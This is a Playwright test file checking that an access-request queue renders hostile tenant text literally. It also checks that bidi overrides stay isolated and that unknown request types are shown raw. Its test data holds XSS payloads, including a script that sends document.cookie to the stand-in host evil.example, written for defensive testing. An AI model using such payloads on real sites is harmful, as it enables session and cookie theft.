import { expect, test } from './fixtures';
import { open, rowOf, rows, waitForQueue } from './queue-page';
import { addRequest, checkNowUntil } from './tenant';

test.describe('hostile tenant text (hostile scenario)', () => {
  test.use({ previewArgs: ['--scenario', 'hostile'] });

  test('markup in names and justifications is shown literally and never runs', async ({ app }) => {
    const dialogs: string[] = [];
    app.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const requests: string[] = [];
    app.on('request', (r) => requests.push(r.url()));
    await waitForQueue(app);

    // Names appear as text, verbatim.
    await expect(rows(app).filter({ hasText: "<script>alert('pwned')</script>" })).toHaveCount(1);
    await expect(rows(app).filter({ hasText: '<img src=x onerror=alert(1)>' })).toHaveCount(1);
    await expect(rows(app).filter({ hasText: "{{constructor.constructor('alert(1)')()}}" })).toHaveCount(1);

    const { detail } = await open(app, "<script>alert('pwned')</script>");
    await expect(detail.getByTestId('detail-justification')).toHaveText("<script>document.location='https://evil.example/?c='+document.cookie</script>");
    await open(app, '<img src=x onerror=alert(1)>');
    await expect(app.getByTestId('detail-justification')).toContainText('<img src=x onerror="fetch(\'https://evil.example\')">');

    // Nothing the tenant wrote became an element, ran, or fetched anything.
    const injected = await app.evaluate(() => ({
      scripts: [...document.querySelectorAll('script')].filter((s) => !s.src).length,
      imgs: document.querySelectorAll('img').length,
      bold: document.querySelectorAll('#app b').length,
    }));
    expect(injected).toEqual({ scripts: 0, imgs: 0, bold: 0 });
    expect(dialogs).toEqual([]);
    expect(requests.filter((u) => u.includes('evil.example') || u.endsWith('/x'))).toEqual([]);
  });

  test('bidi overrides stay inside the name they came with', async ({ app }) => {
    await waitForQueue(app);
    const r = rows(app).filter({ hasText: 'Invoice' });
    await expect(r).toHaveCount(1);
    // The requester's name, override and all, sits in one isolating <bdi>.
    const name = r.locator('bdi').filter({ hasText: 'Invoice \u202Egnp.exe' });
    await expect(name).toHaveCount(1);
    expect(await name.evaluate((e) => getComputedStyle(e).unicodeBidi)).toBe('isolate');
    // Every tenant string in the row (role, scope, requester) is isolated: a list that cannot be empty, each checked.
    const isolation = await r.locator('bdi').evaluateAll((els) => els.map((e) => getComputedStyle(e).unicodeBidi));
    expect(isolation.length).toBeGreaterThanOrEqual(2);
    expect(isolation.every((b) => b === 'isolate')).toBe(true);
    // The words after it are ours, outside it, and still read left to right after the name.
    const after = r.getByText('· Activation');
    await expect(after).toBeVisible();
    expect(await after.evaluate((e) => e.closest('bdi') === null)).toBe(true);
    const [nameBox, afterBox] = [await name.boundingBox(), await after.boundingBox()];
    if (!nameBox || !afterBox) throw new Error('the name and the words after it are both laid out');
    expect(afterBox.x).toBeGreaterThanOrEqual(nameBox.x + nameBox.width - 1);
  });

  test('unknown enum values are shown raw, not dropped', async ({ app, sim }) => {
    await waitForQueue(app);
    // The scenario's unknown request status and stage status never reach the queue (not
    // pending, not mine to decide), so an unknown request type is added that does.
    const stage = await addRequest(sim, { requester: 'requester2', role: 'Reader', scope: 'staging', requestType: 'SelfTeleport', justification: 'Unknown request type' });
    await checkNowUntil(app, (await rows(app).count()) + 1);
    const r = rowOf(app, stage);
    await expect(r).toContainText('· SelfTeleport');
    await r.click();
    const detail = app.getByTestId('detail');
    await expect(detail.locator('dt', { hasText: /^Request$/ }).locator('+ dd')).toHaveText('SelfTeleport');
  });
});
